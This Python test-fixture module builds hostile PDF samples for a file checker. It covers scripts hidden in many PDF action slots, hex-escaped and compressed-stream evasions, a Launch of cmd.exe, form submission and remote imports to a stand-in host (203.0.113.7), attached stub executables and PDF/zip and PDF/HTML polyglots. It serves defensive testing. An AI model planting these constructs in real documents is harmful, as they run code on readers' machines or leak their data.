"""Hostile PDFs built in code: active or external content in every place a reader looks for it.

Each builder returns a file's bytes; each is a valid PDF a reader would open. No Django.
"""

import io
import zipfile
from collections.abc import Sequence

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.evidence.files import pdf_bytes, pdf_document, pdf_written

SCRIPT = "app.alert('owned');"


def _js() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def _link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    """Put a link annotation running `action` on the first page."""
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 72, 200, 100]), A=action)
    link = pdf.make_indirect(link)
    pdf.pages[0].Annots = pdf.make_indirect(Array([link]))


def page_open_javascript() -> bytes:
    """A page whose additional actions run a script when the page is shown (/AA /O)."""
    pdf = pdf_document("page aa")
    pdf.pages[0].AA = Dictionary(O=pdf.make_indirect(_js()))
    return pdf_written(pdf)


def link_javascript() -> bytes:
    """A link annotation whose action is a script."""
    pdf = pdf_document("link js")
    _link(pdf, _js())
    return pdf_written(pdf)


def open_action_next_javascript() -> bytes:
    """An innocent /OpenAction (go to page 1) whose /Next chain runs a script."""
    pdf = pdf_document("next js")
    first = pdf.pages[0].obj
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([first, Name.Fit]), Next=Array([_js()]))
    return pdf_written(pdf)


def form_field_javascript(*, additional: bool = False) -> bytes:
    """A form field (a widget) whose action, or additional action on focus, is a script."""
    pdf = pdf_document("field js")
    widget = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("ok"),
                        Rect=Array([72, 72, 200, 100]), P=pdf.pages[0].obj)
    if additional:
        widget.AA = Dictionary(Fo=_js())
    else:
        widget.A = _js()
    field = pdf.make_indirect(widget)
    pdf.pages[0].Annots = pdf.make_indirect(Array([field]))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return pdf_written(pdf)


def named_javascript() -> bytes:
    """Document-level scripts in the /Names /JavaScript name tree."""
    pdf = pdf_document("names js")
    tree = Dictionary(Names=Array([String("init"), pdf.make_indirect(_js())]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))
    return pdf_written(pdf)


def revised(first: bytes, *, added: Sequence[bytes] = (), catalog: bytes | None = None) -> bytes:
    """`first` with one incremental update appended, written byte by byte as an editor saves one.

    `added` objects get new numbers; `catalog` (a dictionary's source, `%(pages)s` standing for the
    page tree's reference) replaces the document catalogue.
    """
    with pikepdf.open(io.BytesIO(first)) as pdf:
        root, pages, size = pdf.Root.objgen[0], pdf.Root.Pages.objgen[0], int(pdf.trailer.Size)
    previous = int(first.rsplit(b"startxref", 1)[1].split()[0])
    objects = [(size + n, body) for n, body in enumerate(added)]
    if catalog is not None:
        objects.append((root, catalog.replace(b"%(pages)s", b"%d 0 R" % pages)))
    update, entries = b"", []
    for number, body in objects:
        entries.append(b"%d 1\n%010d 00000 n \n" % (number, len(first) + len(update)))
        update += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(first) + len(update)
    update += b"xref\n" + b"".join(entries)
    update += b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        size + len(added), root, previous, table
    )
    return first + update


def orphan_javascript() -> bytes:
    """A script in an object nothing points to: a recovering reader may still find it."""
    return revised(pdf_bytes("orphan js"), added=[b"<</S/JavaScript/JS(app.alert(1);)>>"])


def hex_escaped_javascript() -> bytes:
    """`/Java#53cript`: a name spelled with an escape, which a reader decodes to /JavaScript."""
    catalog = b"<</Type/Catalog/Pages %(pages)s/OpenAction<</S/Java#53cript/#4aS(app.alert(1);)>>>>"
    return revised(pdf_bytes("escaped js"), catalog=catalog)


def unknown_action() -> bytes:
    """An /OpenAction of a kind no reader defines today: refused, not guessed harmless."""
    catalog = b"<</Type/Catalog/Pages %(pages)s/OpenAction<</S/RunSomething/Cmd(calc)>>>>"
    return revised(pdf_bytes("unknown action"), catalog=catalog)


def compressed_object_javascript() -> bytes:
    """A link's script inside a compressed object stream, where no byte scan can see it."""
    pdf = pdf_document("objstm js")
    _link(pdf, pdf.make_indirect(_js()))
    return pdf_written(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def link_action(kind: str, **entries: pikepdf.Object) -> bytes:
    """A link whose action is of `kind` (Launch, SubmitForm, ImportData, GoToR, GoToE, ...)."""
    pdf = pdf_document(f"link {kind}")
    _link(pdf, Dictionary(S=Name("/" + kind), **entries))
    return pdf_written(pdf)


def launch() -> bytes:
    program = String("C:\\Windows\\System32\\cmd.exe")
    return link_action("Launch", F=program, Win=Dictionary(F=String("cmd.exe")))


def submit_form() -> bytes:
    return link_action("SubmitForm", F=Dictionary(FS=Name.URL, F=String("http://203.0.113.7/collect")))


def import_data() -> bytes:
    return link_action("ImportData", F=String("http://203.0.113.7/data.fdf"))


def goto_remote() -> bytes:
    return link_action("GoToR", F=String("\\\\203.0.113.7\\share\\doc.pdf"), D=Array([0, Name.Fit]))


def goto_embedded() -> bytes:
    return link_action("GoToE", NewWindow=True, T=Dictionary(R=Name.C, N=String("payload.pdf")))


def uri(address: str) -> bytes:
    """A link to `address`: allowed for a web page, refused for a file or a script."""
    return link_action("URI", URI=String(address))


def rich_media() -> bytes:
    """A RichMedia (Flash) annotation with its content and an action that runs it."""
    pdf = pdf_document("rich media")
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([72, 72, 300, 300]),
                            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))))
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))
    return pdf_written(pdf)


def xfa_form() -> bytes:
    """An AcroForm carrying an XFA program."""
    pdf = pdf_document("xfa")
    xdp = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xdp)
    return pdf_written(pdf)


def attached_program() -> bytes:
    """A PDF with a Windows program attached (the /EmbeddedFiles name tree), as pikepdf attaches it."""
    pdf = pdf_document("attachment")
    program = b"MZ" + b"\x90" * 256
    spec = pikepdf.AttachedFileSpec(pdf, program, mime_type="application/x-msdownload")
    pdf.attachments["invoice.exe"] = spec
    return pdf_written(pdf)


def file_attachment_annotation() -> bytes:
    """An attachment not in the name tree but on a page, as a FileAttachment annotation."""
    pdf = pdf_document("attachment annotation")
    stream = pdf.make_stream(b"MZ" + b"\x90" * 64)
    stream.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=stream))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([72, 72, 90, 90]), FS=spec)
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(note)]))
    return pdf_written(pdf)


def zip_tail() -> bytes:
    """A valid PDF with a zip appended: a polyglot that is also an archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.exe", b"MZ" + b"\x90" * 64)
    return pdf_bytes("zip tail") + out.getvalue()


def zip_tail_hidden_by_eof() -> bytes:
    """The same, with the zip's comment set to %%EOF so the file still ends like a PDF."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.exe", b"MZ" + b"\x90" * 64)
        archive.comment = b"\n%%EOF\n"
    return pdf_bytes("zip tail eof") + out.getvalue()


def html_tail() -> bytes:
    """A valid PDF followed by an HTML page with a script."""
    return pdf_bytes("html tail") + b"\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def html_head() -> bytes:
    """An HTML page followed by a PDF: readers skip junk before %PDF-."""
    return b"<html><script>alert(1)</script></html>\n" + pdf_bytes("html head")


def padded_tail() -> bytes:
    """Line ends and NULs after %%EOF, as some tools pad a file: still a plain PDF."""
    return pdf_bytes("padded") + b"\r\n\x00\x00\x00\n"


def incremental_update() -> bytes:
    """A PDF saved twice: a new title appended after the first %%EOF, as editors save. Still plain."""
    return revised(pdf_bytes("first revision"), added=[b"<</Title(second revision)>>"])


def tagged_with_destination() -> bytes:
    """A tagged PDF (structure elements with attributes under /A) opening at page 1 by a destination."""
    pdf = pdf_document("tagged", pages=2)
    first = pdf.pages[0].obj
    attributes = Dictionary(O=Name.Layout, Placement=Name.Block)
    paragraph = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.P, Pg=first, A=attributes))
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=Array([paragraph]))
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    pdf.Root.OpenAction = Array([first, Name.Fit])
    return pdf_written(pdf)


def with_uri_link_pages(pages: int = 3) -> bytes:
    """A valid multi-page PDF with a hyperlink to a web page."""
    pdf = pdf_document("linked", pages=pages)
    _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.12315.cn/")))
    return pdf_written(pdf)

